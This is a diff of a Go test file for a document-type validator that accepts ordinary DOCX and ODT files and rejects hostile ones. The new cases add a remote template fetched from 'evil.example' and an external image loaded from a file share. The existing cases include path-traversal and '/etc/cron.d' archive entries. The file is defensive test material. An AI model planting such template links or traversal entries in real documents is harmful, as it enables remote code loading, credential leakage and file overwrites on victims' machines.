@@ -128,6 +128,7 @@ func TestDetectTypeAllowed(t *testing.T) {
 			applytest.Entry{Name: "word/printerSettings/printerSettings1.bin", Data: []byte{1, 2}})},
 		{"docx of 3 MiB prose", ctDOCX, "docx", applytest.Zip(applytest.DocxParts(largeText(3 << 20))...)},
 		{"docx with a directory entry", ctDOCX, "docx", docxWith(applytest.Entry{Name: "word/media/"})},
+		{"docx with a hyperlink", ctDOCX, "docx", docxWith(applytest.Entry{Name: "word/_rels/header1.xml.rels", Data: []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.linkedin.com/in/kari" TargetMode="External"/></Relationships>`)})},
 		{"odt", ctODT, "odt", applytest.ODT()},
 		{"odt with pictures, thumbnail and settings", ctODT, "odt", odtWith(
 			applytest.Entry{Name: "Pictures/10000000000000.png", Data: []byte("\x89PNG\r\n\x1a\n")},
@@ -312,6 +313,9 @@ func TestDetectTypeRefusedContainers(t *testing.T) {
 		{"content types that are not XML", docxTypes(`<Types`), ReasonContainer, "content types"},
 		{"docx with an embedded object", docxWith(applytest.Entry{Name: "word/embeddings/oleObject1.bin", Data: applytest.WordDoc()}), ReasonEmbedded, ""},
 		{"docx with an ActiveX control", docxWith(applytest.Entry{Name: "word/activeX/activeX1.xml", Data: []byte("<ax/>")}), ReasonEmbedded, ""},
+		{"docx with an external template", docxWith(applytest.Entry{Name: "word/_rels/settings.xml.rels", Data: []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`)}), ReasonExternal, ""},
+		{"docx with an external image on a share", docxWith(applytest.Entry{Name: "word/_rels/footer1.xml.rels", Data: []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://evil.example/share/x.png" TargetMode="External"/></Relationships>`)}), ReasonExternal, ""},
+		{"relationships that are not XML", docxWith(applytest.Entry{Name: "word/_rels/styles.xml.rels", Data: []byte(`<Relationships`)}), ReasonContainer, "relationships"},
 		{"docx with an executable beside it", docxWith(applytest.Entry{Name: "setup.exe", Data: []byte("MZ")}), ReasonPart, ""},
 		{"docx with a path traversal", docxWith(applytest.Entry{Name: "word/../../evil.sh", Data: []byte("#!")}), ReasonContainer, "relative path"},
 		{"docx with an absolute path", docxWith(applytest.Entry{Name: "/etc/cron.d/x", Data: []byte("*")}), ReasonContainer, "relative path"},
